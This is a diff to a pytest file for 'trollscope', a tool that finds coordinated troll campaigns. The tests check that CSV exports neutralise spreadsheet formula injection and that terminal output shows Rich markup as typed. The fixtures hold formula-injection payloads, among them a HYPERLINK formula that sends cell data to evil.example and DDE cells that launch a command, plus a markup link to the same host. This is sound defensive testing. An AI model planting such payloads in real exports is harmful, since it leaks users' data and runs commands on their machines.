@@ -1,5 +1,6 @@
 """What the CLI writes is safe to open: CSV cells that a spreadsheet would run as formulas are neutralised
 (OWASP), in exports and in every listing's `--format csv`; `--raw` keeps them; Parquet and JSON are as stored.
+In the terminal, handles and messages are shown as typed, never read as Rich markup.
 
 The store: an honest crowd and a planted ring whose handles, labels and posts are formula cells; detection
 puts the ring in campaign C1. A quarantined line starts with a formula too."""
@@ -9,7 +10,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-from pathlib import Path
 
 import pyarrow.parquet as pq
 import pytest
@@ -17,7 +17,8 @@ from detect_helpers import MAPPING, make_store, synthetic_world, write_csv
 from typer.testing import CliRunner
 
 from trollscope.cli import app
-from trollscope.pipeline import detect
+from trollscope.cli.app import out
+from trollscope.pipeline import detect  # detect, then enrich: export reads account_signals
 from trollscope.ingest import ingest
 
 runner = CliRunner()
@@ -25,7 +26,8 @@ runner = CliRunner()
 # The cells of issue 16: a link that leaks data, DDE command execution, @ and - starts, tab and CR.
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 cr"]
-PLAIN = ["plain handle", "[/bold] markup"]  # the other two ring members: no formula, nothing added
+# the other two ring members: no formula, so nothing added in CSV; Rich markup for the terminal
+PLAIN = ["[link=http://evil.example]click[/link]", "[/bold] markup"]
 CATEGORY = "=1+2 ring"
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -139,3 +141,23 @@ def test_every_listing_in_csv_is_safe(db):
         _assert_safe([profile])
         assert profile["handle"] == "'" + handle and profile["account_id"] == "'" + handle
         assert any(v.startswith("-") for k, v in profile.items() if k.startswith("c_"))  # numbers stay numbers
+
+
+@pytest.fixture
+def wide(monkeypatch):
+    monkeypatch.setattr(out, "width", 250)  # tables do not fold a handle across lines
+
+
+def test_tables_and_lines_show_markup_as_typed(db, wide):
+    link, close = PLAIN
+    for args in (["accounts", "--flagged"], ["campaign", "C1"], ["campaigns"], ["explain", link, close],
+                 ["account", link]):
+        shown = _run(*args, "--db", db)
+        assert close in shown and (link in shown or args[0] == "campaigns"), args
+    assert "-2+3+cmd|' /C calc'!A0" in _run("accounts", "--db", db)  # a table shows cells verbatim
+
+
+def test_an_error_quoting_markup_is_one_line(db):
+    result = runner.invoke(app, ["explain", "[/nope]", "[link=x]y", "--db", db])
+    assert result.exit_code == 2
+    assert result.output.strip() == "error: no account '[/nope]' in the store"
